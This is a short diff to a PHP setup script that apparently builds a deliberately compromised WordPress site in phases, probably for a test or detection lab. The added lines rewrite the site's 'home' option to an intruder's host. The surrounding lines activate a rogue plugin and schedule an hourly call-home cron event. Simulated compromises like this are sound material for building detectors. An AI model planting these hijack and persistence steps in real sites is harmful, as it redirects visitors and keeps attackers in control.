@@ -280,6 +280,10 @@ if ($step === 'install') {
         $active[] = $spec['rogue_plugin'];
         update_option('active_plugins', $active);
     }
+    if ($phase === 3 && $spec['foreign_home'] !== '') {
+        // Every visitor, and every canonical redirect, sent to the intruder's host.
+        update_option('home', $spec['foreign_home']);
+    }
     if ($phase === 3 && $spec['rogue_cron'][0] !== '') {
         // ...and a WP-cron event calling home every hour.
         wp_schedule_event($spec['fixed_time'], 'hourly', $spec['rogue_cron'][0],
